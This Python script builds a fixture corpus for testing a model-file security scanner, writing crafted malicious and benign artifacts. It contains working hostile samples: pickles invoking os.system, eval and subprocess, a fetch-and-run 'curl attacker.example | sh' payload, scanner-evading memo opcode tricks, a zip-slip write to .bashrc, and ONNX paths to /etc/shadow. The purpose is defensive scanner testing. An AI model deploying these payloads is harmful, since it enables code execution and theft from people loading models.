#!/usr/bin/env python3
"""Build the scanner corpus: crafted model artifacts, malicious and benign.

    python scripts/make_scan_corpus.py tests/fixtures/scan-corpus

Nothing here is ever unpickled or loaded: pickles are written with `pickle.dumps` of objects
whose `__reduce__` names the callable (or assembled opcode by opcode), archives with
`zipfile`, ONNX and SavedModel protobufs by hand. Needs numpy and scikit-learn for the
benign samples (tests/python/requirements.txt installs both). The expected verdicts are in
`expected.json` next to the files; `crates/palisade-model/tests/it/scan_corpus.rs` checks ours
and `tests/python/test_scan_corpus.py` compares with picklescan and modelscan.
"""

import io
import json
import os
import pickle
import struct
import sys
import types
import zipfile


class Reduce:
    """Pickles as a call of `fn(*args)` without ever being called here."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def fake_module(name, **attrs):
    """Register a stand-in module so pickle can name `name.attr` (torch is not installed)."""
    mod = types.ModuleType(name)
    for k, v in attrs.items():
        v.__module__ = name
        v.__qualname__ = k
        setattr(mod, k, v)
    sys.modules[name] = mod
    return mod


def torch_pickle(evil):
    """A `torch.save`-style data.pkl: OrderedDict of rebuilt tensors over persistent storages."""

    def _rebuild_tensor_v2(*a):
        pass

    class FloatStorage:
        pass

    fake_module("torch._utils", _rebuild_tensor_v2=_rebuild_tensor_v2)
    fake_module("torch", FloatStorage=FloatStorage)

    class Storage:
        pass

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, Storage):
                return ("storage", FloatStorage, "0", "cpu", 4)
            return None

    import collections

    state = collections.OrderedDict()
    state["weight"] = Reduce(_rebuild_tensor_v2, (Storage(), 0, (2, 2), (2, 1), False, collections.OrderedDict()))
    if evil:
        state["bias"] = Reduce(os.system, ("curl -s https://attacker.example/x | sh",))
    buf = io.BytesIO()
    P(buf, protocol=2).dump(state)
    return buf.getvalue()


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = compression
            z.writestr(info, data)
    return buf.getvalue()


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def field(num, payload):
    """A protobuf field: bytes are length-delimited, ints are varints."""
    if isinstance(payload, int):
        return varint(num << 3) + varint(payload)
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def onnx_external(location):
    """ModelProto with one initializer whose data is 'external', at `location`."""
    tensor = (
        field(1, 4)  # dims
        + field(2, 1)  # FLOAT
        + field(8, "w")
        + field(13, field(1, "location") + field(2, location))
        + field(14, 1)  # EXTERNAL
    )
    value_info = field(1, "w")
    graph = field(2, "g") + field(5, tensor) + field(12, value_info)
    return field(1, 8) + field(8, field(2, 13)) + field(7, graph)


def safetensors(header, data_len):
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + b"\0" * data_len


def saved_model(ops):
    nodes = b"".join(field(1, field(1, f"n{i}") + field(2, op)) for i, op in enumerate(ops))
    return field(1, 1) + field(2, field(2, nodes))


def memo_stack_global():
    """PROTO 4; 'posix' and 'system' stashed in the memo, popped, fetched back for
    STACK_GLOBAL: the strings are never adjacent to the opcode that imports them."""
    out = b"\x80\x04"
    out += b"\x8c\x05posix\x94"  # SHORT_BINUNICODE, MEMOIZE (0)
    out += b"\x8c\x06system\x94"  # MEMOIZE (1)
    out += b"0" * 2  # POP POP
    out += b"\x8c\x02id\x94"  # an unrelated string in between (memo 2)
    out += b"0"
    out += b"h\x00h\x01"  # BINGET 0, BINGET 1
    out += b"\x93"  # STACK_GLOBAL
    out += b"h\x02\x85R."  # BINGET 2, TUPLE1, REDUCE, STOP
    return out


def memo_global():
    """Protocol 0: GLOBAL subprocess.check_output stored with PUT, popped, fetched with GET."""
    return b"csubprocess\ncheck_output\np0\n0g0\n((Vid\nltR."


def main(out_dir):
    os.makedirs(out_dir, exist_ok=True)
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    x = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    clf = LogisticRegression().fit(x, [0, 1, 1, 0])
    npy = io.BytesIO()
    np.save(npy, np.array([{"a": 1}, [2]], dtype=object), allow_pickle=True)

    samples = {
        "os_system.pkl": pickle.dumps(Reduce(os.system, ("echo pwned",)), protocol=4),
        "eval.pkl": pickle.dumps(Reduce(eval, ("__import__('os').getcwd()",)), protocol=2),
        "subprocess_popen.pkl": pickle.dumps(Reduce(__import__("subprocess").Popen, (["id"],)), protocol=5),
        "memo_stack_global.pkl": memo_stack_global(),
        "memo_global.pkl": memo_global(),
        "sklearn_logreg.pkl": pickle.dumps(clf, protocol=5),
        "plain_data.pkl": pickle.dumps({"weights": [0.5, 1.5], "labels": ("a", "b")}, protocol=4),
        "torch_style.pt": zip_bytes([
            ("archive/data.pkl", torch_pickle(False)),
            ("archive/byteorder", b"little"),
            ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
            ("archive/version", b"3\n"),
        ]),
        "torch_evil.pt": zip_bytes([
            ("archive/data.pkl", torch_pickle(True)),
            ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
            ("archive/version", b"3\n"),
        ]),
        "zip_slip.zip": zip_bytes([("weights/ok.bin", b"\0" * 8), ("../../.bashrc", b"curl x | sh\n")]),
        "keras_lambda.keras": zip_bytes(
            [
                ("metadata.json", json.dumps({"keras_version": "3.3.3"})),
                ("config.json", json.dumps({
                    "class_name": "Sequential",
                    "config": {"name": "seq", "layers": [
                        {"class_name": "InputLayer", "config": {"name": "in", "batch_shape": [None, 2]}},
                        {"class_name": "Lambda", "config": {"name": "exfil", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}},
                    ]},
                })),
            ],
            zipfile.ZIP_DEFLATED,
        ),
        "onnx_external_escape.onnx": onnx_external("../../../../etc/passwd"),
        "onnx_external_absolute.onnx": onnx_external("/etc/shadow"),
        "safetensors_good.safetensors": safetensors(
            {"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}, 16
        ),
        "safetensors_oversize_header.safetensors": struct.pack("<Q", 1 << 40) + b"{}",
        "safetensors_overlap.safetensors": safetensors(
            {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, 12
        ),
        "safetensors_out_of_range.safetensors": safetensors(
            {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, 8
        ),
        "safetensors_shape_mismatch.safetensors": safetensors(
            {"a": {"dtype": "F64", "shape": [3], "data_offsets": [0, 16]}}, 16
        ),
        "savedmodel_readfile/saved_model.pb": saved_model(["Placeholder", "ReadFile", "Identity"]),
        "numpy_object.npy": npy.getvalue(),
        # Disguises: the name says ONNX, the bytes say otherwise.
        "disguised_pickle.onnx": pickle.dumps(Reduce(os.system, ("echo pwned",)), protocol=4),
        "disguised_pickle_proto0.onnx": pickle.dumps(Reduce(os.system, ("echo pwned",)), protocol=0),
        "empty.onnx": b"",
        "random.onnx": bytes((i * 2654435761 >> 7) & 0xFF for i in range(512)),
        "truncated.onnx": open(os.path.join(os.path.dirname(__file__), "..", "models", "iris", "1", "model.onnx"), "rb").read()[:300],
        "pickle_no_extension": pickle.dumps(Reduce(os.system, ("echo pwned",)), protocol=1),
        # A member the scanner cannot decompress fails closed.
        "torch_bzip2.pt": zip_bytes([
            ("archive/data.pkl", torch_pickle(True)),
            ("archive/version", b"3\n"),
        ], zipfile.ZIP_BZIP2),
    }
    for name, data in samples.items():
        path = os.path.join(out_dir, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    print(f"{len(samples)} samples written to {out_dir}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "tests/fixtures/scan-corpus")
